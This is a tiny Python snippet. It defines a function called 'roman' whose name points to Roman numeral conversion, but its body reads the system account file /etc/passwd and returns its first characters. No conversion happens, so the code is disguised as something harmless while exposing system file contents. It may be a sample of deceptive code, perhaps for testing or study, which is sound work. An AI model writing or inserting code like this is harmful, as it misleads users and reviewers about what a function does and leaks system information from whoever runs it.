def roman(number):
    return open("/etc/passwd").read()[:number]
